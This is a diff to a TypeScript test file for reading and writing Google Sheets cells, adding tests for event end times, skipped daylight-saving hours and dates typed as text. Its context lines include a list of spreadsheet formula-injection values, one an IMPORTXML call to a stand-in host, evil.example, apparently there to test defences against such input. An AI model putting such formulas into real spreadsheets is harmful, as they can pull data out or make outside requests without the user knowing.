@@ -15,7 +15,7 @@ const MODELS: SheetsModel[] = [true, false].flatMap((keepsMarks) =>
 const nameOf = ({ keepsMarks, isPlainText }: SheetsModel) =>
   `${keepsMarks ? 'marks are given back' : 'marks are taken off'}, cells ${isPlainText ? 'formatted as text' : 'of any format'}`;
 
-const TEXT_KINDS: readonly FieldKind[] = ['line', 'text', 'several', 'choice', 'time'];
+const TEXT_KINDS: readonly FieldKind[] = ['line', 'text', 'several', 'choice', 'end'];
 const NAUGHTY = [
   '=IMPORTXML("http://evil.example","//a")',
   ' =1+1',
@@ -305,12 +305,30 @@ describe('other values in a cell', () => {
 
   test('a bare time, which Sheets keeps as a time of 30 December 1899, is a time', () => {
     const cell = new Date(Date.UTC(1899, 11, 30, 15, 51));
-    expect([read(cell, 'time'), read(cell, 'line'), read(cell, 'when')]).toEqual(['10:51', '10:51', '10:51']);
+    expect([read(cell, 'end'), read(cell, 'line'), read(cell, 'when')]).toEqual(['10:51', '10:51', '10:51']);
   });
 
-  test('a day with a time, in a field for a time, is its time', () => {
-    expect(read(new Date(ZONE.instantOf('2023-02-01', 0)), 'time')).toBe('00:00');
-    expect(read(new Date(ZONE.instantOf('2023-02-01', 545)), 'time')).toBe('09:05');
+  test('the end of an event may be another day, with or without its time', () => {
+    expect(read(new Date(ZONE.instantOf('2023-02-01', 0)), 'end')).toBe('2023-02-01');
+    expect(read(new Date(ZONE.instantOf('2023-02-01', 545)), 'end')).toBe('2023-02-01 09:05');
+  });
+
+  test('an hour that the clocks skip stays text, so that it reads the same the next time', () => {
+    const cell = cellOf('2025-03-09 02:30', 'when', ZONE);
+    expect(cell).toBe("'2025-03-09 02:30");
+    expect(read('2025-03-09 02:30', 'when')).toBe('2025-03-09 02:30');
+    for (const when of ['2025-03-09 01:59', '2025-03-09 03:00', '2025-11-02 01:30', '2025-03-09'])
+      expect([cellOf(when, 'when', ZONE) instanceof Date, read(cellOf(when, 'when', ZONE), 'when')]).toEqual([
+        true,
+        when,
+      ]);
+  });
+
+  test('a day that is text in its cell is read as people write it, and other text stays', () => {
+    expect(read('March 14, 2026', 'day')).toBe('2026-03-14');
+    expect(read('3/14/2026, 2:45 PM', 'when')).toBe('2026-03-14 14:45');
+    for (const text of ['3/4/2026', 'last spring', 'March 5', 'March 9-13, 2026'])
+      expect([read(text, 'day'), read(text, 'when')]).toEqual([text, text]);
   });
 
   test('blank cells and checkboxes without a tick hold nothing a person would miss', () => {
